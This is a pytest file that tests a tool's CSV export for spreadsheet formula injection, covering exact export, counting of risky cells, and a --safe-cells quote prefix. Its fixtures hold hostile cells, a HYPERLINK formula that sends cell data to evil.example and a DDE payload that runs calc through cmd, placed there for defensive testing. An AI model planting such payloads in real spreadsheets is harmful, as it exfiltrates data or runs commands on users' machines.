"""csv cells that a spreadsheet would run as formulas (audit6 F3): scraped titles, outlets
and sentences can open with = + - @. The export writes them exactly (the text must equal
the source between start and end) and says how many there are; --safe-cells writes them
with a leading ' instead. Read back with the csv module and with pandas."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tests.consumers import cli_run

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXT = (
    "=1+2 is what the council said on Monday. "
    "+cmd|' /C calc'!A0 was typed by a reader. "
    "-2% on the day was the close. "
    "An ordinary sentence follows here."
)


def _db(tmp_path: Path) -> Path:
    src = tmp_path / "in.jsonl"
    rec = {"id": "csv1", "title": HOSTILE_TITLE, "outlet": "@SUM(1+1)", "text": TEXT}
    plain = {"id": "plain", "title": "Budget passes", "text": "The council met. It voted."}
    src.write_text(json.dumps(rec) + "\n" + json.dumps(plain) + "\n", encoding="utf-8")
    db = tmp_path / "c.sqlite"
    out = cli_run(db, "import", "-q", str(src))
    assert out.exit_code == 0, out.output
    return db


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _opens_formula(cell: str) -> bool:
    """Text a spreadsheet runs as a formula (a negative number, e.g. a reading grade of
    -1.5, is a number to it and is left alone)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)


def test_cells_are_exact_and_the_export_says_how_many_would_run(tmp_path: Path) -> None:
    db = _db(tmp_path)
    out = tmp_path / "x.csv"
    res = cli_run(db, "export", "--format", "csv", "--all-sentences", "-o", str(out))
    assert res.exit_code == 0, res.output
    rows = [r for r in _rows(out) if r["article_id"] == "csv1"]
    texts = [r["text"] for r in rows]
    assert texts[0].startswith("=1+2") and any(t.startswith("+cmd|") for t in texts)
    assert all(r["article_title"] == HOSTILE_TITLE and r["outlet"] == "@SUM(1+1)" for r in rows)
    # every text cell equals the article's text between start and end
    for r in rows:
        assert TEXT[int(r["start"]) : int(r["end"])] == r["text"]
    side = _rows(tmp_path / "x.articles.csv")
    side_cells = sum(_opens_formula(c) for r in side for c in r.values())
    body_cells = sum(_opens_formula(c) for r in _rows(out) for c in r.values())
    assert side_cells >= 2 and body_cells >= 2 * len(rows) + 3
    assert f"{body_cells + side_cells} cells open with =, +, -, @" in " ".join(res.output.split())
    assert "--safe-cells" in res.output


def test_safe_cells_prefix_what_would_run_and_nothing_else(tmp_path: Path) -> None:
    db = _db(tmp_path)
    exact, safe = tmp_path / "e.csv", tmp_path / "s.csv"
    assert (
        cli_run(db, "export", "--format", "csv", "--all-sentences", "-o", str(exact)).exit_code == 0
    )
    res = cli_run(
        db, "export", "--format", "csv", "--all-sentences", "--safe-cells", "-o", str(safe)
    )
    assert res.exit_code == 0, res.output
    for a_path, b_path in (
        (exact, safe),
        (tmp_path / "e.articles.csv", tmp_path / "s.articles.csv"),
    ):
        a_rows, b_rows = _rows(a_path), _rows(b_path)
        assert len(a_rows) == len(b_rows)
        for a, b in zip(a_rows, b_rows, strict=True):
            for key in a:
                want = "'" + a[key] if _opens_formula(a[key]) else a[key]
                assert b[key] == want, key
            assert not any(_opens_formula(c) for c in b.values())
    assert "written with a leading '" in " ".join(res.output.split())


def test_a_clean_export_says_nothing_about_formulas(tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"id": "a", "text": "The council met. It voted."}) + "\n")
    db = tmp_path / "c.sqlite"
    assert cli_run(db, "import", "-q", str(src)).exit_code == 0
    res = cli_run(db, "export", "--format", "csv", "--all-sentences", "-o", str(tmp_path / "o.csv"))
    assert res.exit_code == 0 and "formula" not in res.output


def test_safe_cells_is_refused_for_other_formats(tmp_path: Path) -> None:
    db = _db(tmp_path)
    res = cli_run(
        db, "export", "--format", "jsonl", "--safe-cells", "-o", str(tmp_path / "o.jsonl")
    )
    assert res.exit_code == 2 and "--safe-cells is for --format csv" in res.output


def test_pandas_reads_the_safe_file_as_text(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas", reason="needs pandas (make setup installs it)")
    db = _db(tmp_path)
    out = tmp_path / "s.csv"
    args = ("export", "--format", "csv", "--all-sentences", "--safe-cells", "-o", str(out))
    assert cli_run(db, *args).exit_code == 0
    frame = pd.read_csv(out)
    assert frame["article_title"].str.startswith("'=").sum() == 4
    assert str(frame["start"].dtype) == "int64"
